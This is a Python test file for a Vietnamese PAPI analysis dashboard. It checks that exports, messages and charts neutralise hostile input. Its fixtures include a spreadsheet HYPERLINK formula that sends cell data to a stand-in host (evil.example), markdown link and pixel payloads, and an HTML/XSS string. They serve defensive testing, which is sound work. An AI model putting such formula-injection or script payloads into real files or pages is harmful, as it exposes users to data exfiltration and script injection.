"""Text written to do harm, from workbooks, plans and users: formulas in exports, control characters, markdown in
messages, HTML in chart labels, agency names that collide or run long in the every-agency ZIP, target phrases
whose number cannot be read without doubt (issue 19)."""
import io
import re
import shutil
import tomllib
import zipfile

import openpyxl
import pandas as pd
import pytest
from docx import Document

from dashboard.widgets import as_plain_text
from papi_analysis import assignments, charts, limits, store
from papi_analysis.__main__ import main
from papi_analysis.export import excel, slug, unique_names
from papi_analysis.ingest.workbook import MAX_FILE_BYTES, MAX_UNCOMPRESSED_BYTES
from papi_analysis.limits import megabytes
from papi_analysis.sanitise import markdown_literal
from papi_analysis.targets import parse
from tests.conftest import ROOT
from tests.test_app import app  # noqa: F401 (a fixture)
from tests.test_plans import HEADER, ROWS, SECTION, build_appendix

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"Sở Tư pháp")'
FORMULAS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "＝1+1"]


def test_excel_downloads_write_formula_like_text_as_text_shown_as_written(ingested):
    frame = pd.DataFrame({"lead_agency": FORMULAS, "score": [1.5] * len(FORMULAS)})
    with store.reader(ingested[0]) as con:
        sources = store.sources(con)
    book = openpyxl.load_workbook(io.BytesIO(excel.workbook({"t": frame}, sources, "vi")))
    cells = [row[0] for row in book["t"].iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s"] * len(FORMULAS)  # never 'f': no live formula
    assert [c.value for c in cells[:4]] == FORMULAS[:4]  # as written, Excel's hidden apostrophe marks it text
    assert all(c.quotePrefix for c in cells)
    assert book["t"]["B2"].value == 1.5


def test_csv_downloads_prefix_formula_like_text_with_an_apostrophe():
    frame = pd.DataFrame({"=cột": FORMULAS + ["Sở Y tế", "-12"], "n": range(len(FORMULAS) + 2)})
    text = excel.csv_bytes(frame, "en").decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == "'=cột,n"
    assert lines[1].startswith(""""'=HYPERLINK(""") and lines[2] == "'+1+2,1" and lines[3] == "'-2+3,2"
    assert lines[4] == "'@SUM(A1:A2),3" and "Sở Y tế,7" in lines
    assert lines[-1] == "-12,8"  # a signed number is no formula: left as it is


def test_the_assignment_export_and_the_command_line_tables_neutralise_formulas(tmp_path, capsys):
    rows = pd.DataFrame({"code": ["1.1"], "lead_agency": [HYPERLINK], "supporting_agencies": [["@evil", "Sở Y tế"]]})
    plan = assignments.Assignment("=plan", 2024, rows)
    sheet = openpyxl.load_workbook(io.BytesIO(assignments.export_xlsx(plan))).active
    assert sheet["C2"].value == HYPERLINK and sheet["C2"].data_type == "s"
    assert "'=HYPERLINK" in assignments.export_csv(plan).decode("utf-8-sig")


@pytest.fixture(scope="module")
def hostile_plan(ingested, tmp_path_factory):
    """The real database with a 2024 appendix whose tasks, agencies and name hold control characters, formulas,
    markdown, HTML, and agencies that differ only in '/ : ?' or run very long, read from an .xlsx as Excel
    writes such characters (_x0007_ escapes)."""
    folder = tmp_path_factory.mktemp("hostile")
    db = folder / "papi.duckdb"
    shutil.copyfile(ingested[0], db)
    long_name = "Sở " + "Rất Dài " * 2000
    rows = [list(r) for r in ROWS if r[0] != SECTION]  # the component rows, without the merged section headings
    rows[2][4] = "Tuyên truyền_x0007_ pháp luật_x000B_ở cơ sở"  # BEL and VT in a task
    rows[2][5] = "Sở Tư_x0007_ pháp"
    rows[3][5] = "Sở A/B"
    rows[4][5] = "Sở A:B"
    rows[5][5] = "Sở A?B"
    rows[6][5] = long_name
    book = openpyxl.Workbook()
    book.active.append(HEADER)
    for row in rows:
        book.active.append(row)
    book.save(folder / "phu-luc.xlsx")
    assert main(["plan", "import", str(folder / "phu-luc.xlsx"), "--name", "KH hiểm", "--year", "2024",
                 "--province", "Hòa Bình", "--db", str(db)]) == 0
    return db, long_name


def test_control_characters_are_removed_at_the_door_and_every_report_is_written(hostile_plan, tmp_path):
    db, _ = hostile_plan
    with store.reader(db) as con:
        tasks = [r[0] for r in con.execute("SELECT tasks || lead_agency FROM plan_targets").fetchall() if r[0]]
    assert any("Tuyên truyền pháp luật\nở cơ sở" in t for t in tasks)
    assert not any(ch in t for t in tasks for ch in "\x07\x0b")
    for options in ([], ["--agency", "Sở Tư pháp"]):
        out = tmp_path / "r.docx"
        assert main(["report", "--province", "Hòa Bình", "--year", "2024", "--db", str(db), "--plan", "KH hiểm",
                     "--out", str(out), "--no-charts", *options]) == 0
        assert Document(out).paragraphs


def test_the_every_agency_zip_has_unique_short_entry_names(hostile_plan, tmp_path):
    db, long_name = hostile_plan
    out = tmp_path / "all.zip"
    assert main(["report", "--province", "Hòa Bình", "--year", "2024", "--db", str(db), "--plan", "KH hiểm",
                 "--every-agency", "--out", str(out), "--no-charts"]) == 0
    names = zipfile.ZipFile(out).namelist()
    assert len(names) == len({n.casefold() for n in names})  # nothing overwritten on extraction
    assert sum(n.startswith("bao-cao-chuyen-de-Sở_A_B") for n in names) == 3
    assert max(len(n.encode()) for n in names) < 255 and all(n.endswith("-2024.docx") or "-2024-" in n for n in names)


def test_unique_names_compare_as_file_systems_do():
    assert unique_names(["a", "A", "a", "b"], ".docx") == ["a.docx", "A-2.docx", "a-3.docx", "b.docx"]
    assert len(slug("bao-cao", "Sở " + "x" * 5000, 2024)) < 120 and slug("x" * 100, 2024).endswith("-2024")


def test_a_stored_control_character_never_breaks_an_excel_download(ingested):
    with store.reader(ingested[0]) as con:
        sources = store.sources(con)
    sources.loc[sources.index[0], "sheet"] = "PAPI\x07 2024"  # a database written before the door was closed
    frame = pd.DataFrame({"agency": ["Sở\x0b Y tế\x07"]})
    book = openpyxl.load_workbook(io.BytesIO(excel.workbook({"t\x07": frame}, sources, "vi")))
    assert book["t"]["A2"].value == "Sở\n Y tế"


@pytest.mark.parametrize("message", [
    "ô B7 ('[bấm vào đây](https://evil.example)') không phải là số",
    "sheet '![x](https://evil.example/pixel.png)'", "tệp 'xem https://evil.example hoặc www.evil.example'",
    "<img src=x onerror=alert(1)>", ":red[đỏ] **đậm** $x^2$ `mã`",
])
def test_markdown_in_messages_is_shown_as_written(message):
    shown = as_plain_text(message)
    unescaped = re.sub(r"\\[!-/:-@\[-`{-~]", "", shown)  # what markdown would read as syntax
    assert not re.search(r"[!-/:-@\[-`{-~]", unescaped), unescaped  # no link, image, URL, HTML, colour, maths
    assert shown.replace("\\", "") == message  # every character still there, only escaped


def test_names_with_html_are_text_in_charts_and_their_images():
    by_agency = pd.DataFrame({"agency": ['<a href="https://evil.example">Sở Y tế</a>', '<span style="font-size:80px">X'],
                              "met": [1, 0], "not_met": [0, 1], "pending": [0, 0], "no_data": [0, 0],
                              "not_understood": [0, 0]})
    figure = charts.targets_by_agency(by_agency, "<b>KH</b> <a href='https://evil.example'>1</a>", 2024, "vi")
    shown = " ".join(map(str, figure.data[0].y)) + figure.layout.title.text
    assert "<a " not in shown and "<span" not in shown and "<b>" not in shown
    assert "&lt;a" in shown and "&lt;span style" in shown and "&lt;b&gt;KH&lt;/b&gt;" in figure.layout.title.text


@pytest.mark.parametrize("phrase", ["Tăng ít nhất 1.000 bậc", "trong tốp 1e3", "Nằm trong tốp 64",
                                    "Tăng ít nhất 63 bậc", "Tăng ít nhất 2,5 bậc", "Đạt 1.000 điểm", "Top 10a"])
def test_target_numbers_that_cannot_be_read_without_doubt_are_not_understood(phrase):
    target = parse(phrase)
    assert target.kind is None and target.text == phrase


def test_markdown_literal_keeps_line_breaks_and_vietnamese():
    assert markdown_literal("Sở Y tế\nhàng 2") == "Sở Y tế  \nhàng 2"


def test_a_link_with_digits_that_are_not_ascii_opens_the_default_view(app):  # noqa: F811
    app.query_params["year"] = "²"  # /?year=%C2%B2: passes str.isdigit(), and int() raised on every page
    app.query_params["province"] = "٢"
    app.run()
    assert not app.exception
    assert app.session_state.year == 2024 and app.session_state.province == 17


def test_a_fault_shows_the_reader_a_sentence_and_the_log_the_traceback(app, monkeypatch, caplog):  # noqa: F811
    import dashboard.widgets

    def broken(*args, **kwargs):
        raise RuntimeError("/srv/papi/secret/path.py went wrong")
    monkeypatch.delenv("PAPI_DEBUG")  # as served: no developer switch
    monkeypatch.setattr(dashboard.widgets, "estimate_notice", broken)
    app.run()
    assert not app.exception
    assert [e.value for e in app.error] == [
        "Không hiển thị được trang này do lỗi của chương trình. Lỗi đã được ghi vào nhật ký của máy chủ; "
        "hãy tải lại trang hoặc báo cho bộ phận công nghệ thông tin."]
    assert "/srv/papi/secret/path.py" in caplog.text and "Traceback" in caplog.text


def test_served_without_error_details_and_with_one_upload_limit_everywhere():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["showErrorDetails"] == "none"
    assert config["server"]["maxUploadSize"] == limits.UPLOAD_MB
    assert megabytes(MAX_FILE_BYTES) == "50 MB" and megabytes(MAX_UNCOMPRESSED_BYTES) == "400 MB"
    for doc in ("README.md", "docs/operations.md"):
        content = (ROOT / doc).read_text()
        assert not re.search(r"\b(52|419) MB", content)
    limits_table = (ROOT / "docs" / "operations.md").read_text().split("## Limits")[1].split("##")[0]
    for size in (limits.UPLOAD_MB, limits.UNZIPPED_MB, limits.PLAN_FILE_MB, limits.COMPILATION_CSV_MB):
        assert f"| {size} MB" in limits_table


def test_a_plan_name_with_control_characters_is_stored_as_printed(tmp_path, capsys):
    db = tmp_path / "papi.duckdb"
    appendix = build_appendix(tmp_path / "phu-luc.xlsx")
    assert main(["plan", "import", str(appendix), "--name", "C\x07\x0bT  mới", "--year", "2024", "--db", str(db)]) == 0
    assert "stored plan 'C T mới'" in capsys.readouterr().out  # the vertical tab a line break, then a space
    assert main(["assignment", "export", str(tmp_path / "out.csv"), "--plan", "C T mới", "--db", str(db)]) == 0


def test_formula_cells_without_results_in_an_appendix_are_refused_not_emptied(tmp_path, capsys):
    db = tmp_path / "papi.duckdb"
    book = openpyxl.load_workbook(build_appendix(tmp_path / "phu-luc.xlsx"))
    sheet = book.active
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == "Sở Y tế")
    cell.value = '=HYPERLINK("http://evil.example","Sở Y tế")'  # openpyxl saves the formula without its result
    book.save(tmp_path / "formula.xlsx")
    assert main(["plan", "import", str(tmp_path / "formula.xlsx"), "--name", "F", "--year", "2024",
                 "--db", str(db)]) != 0
    err = capsys.readouterr().err
    assert "formula cell(s) saved without a result" in err and cell.coordinate in err
